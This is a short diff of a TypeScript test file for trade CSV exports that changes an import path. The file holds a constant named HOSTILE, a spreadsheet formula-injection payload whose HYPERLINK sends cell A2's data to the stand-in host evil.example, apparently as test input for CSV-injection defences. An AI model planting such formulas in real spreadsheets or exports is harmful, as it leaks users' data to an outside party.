@@ -3,7 +3,7 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { Trade } from '../../functions/_lib/contract/index.ts';
-import { executionsCsv, tripsCsv } from '../../member-app/trades/closed-trades-view.ts';
+import { executionsCsv, tripsCsv } from '../../member-app/trades/trips-csv.ts';
 import { closedTrade } from '../support/trades.ts';
 
 const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Open")';
